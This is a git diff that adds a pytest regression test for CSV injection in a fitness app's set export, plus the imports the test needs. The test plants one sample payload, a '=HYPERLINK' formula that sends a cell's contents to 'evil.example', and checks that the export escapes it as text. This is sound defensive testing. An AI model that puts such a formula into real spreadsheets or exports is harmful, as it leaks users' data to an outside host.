@@ -14,11 +14,13 @@ from typing import Any
 
 import pytest
 from icalendar import Calendar
+from sqlalchemy import select
 
 from backfit.services import calendar, exports, history, profiles, schedule
 from backfit.store import ImportRejected, open_database
 from backfit.store import repositories as repo
 from backfit.store.database import Database, head_revision
+from backfit.store.models import PerformedSession, Profile
 from tests import factories as f
 
 NOW = f.START + timedelta(weeks=6, days=1)
@@ -446,3 +448,20 @@ def test_calendar_without_a_reminder_has_no_alarm(lived: Database, test_data: f.
     events = calendar_events(lived, test_data)
     assert events
     assert not any(list(e.walk("VALARM")) for e in events)
+
+
+def test_csv_text_from_a_backup_cannot_run_as_a_spreadsheet_formula(lived: Database) -> None:
+    """A backup someone sent, once imported, names its exercises as it likes: a name such as
+    ``=HYPERLINK(...)`` must reach the CSV as text, not as a formula (CSV injection)."""
+    formula = '=HYPERLINK("https://evil.example/?d="&A2,"details")'
+    with lived.unit_of_work() as session:
+        performed = session.scalars(
+            select(PerformedSession).join(Profile).where(Profile.name == "ben").order_by(PerformedSession.id)
+        ).first()
+        assert performed is not None
+        performed.plan = [{**item, "name": formula} for item in performed.plan]
+    with lived.unit_of_work() as session:
+        rows = list(csv.DictReader(io.StringIO(exports.export_sets_csv(session, "ben"))))
+    named = [r for r in rows if int(r["session_id"]) == performed.id]
+    assert named
+    assert {r["exercise"] for r in named} == {"'" + formula}
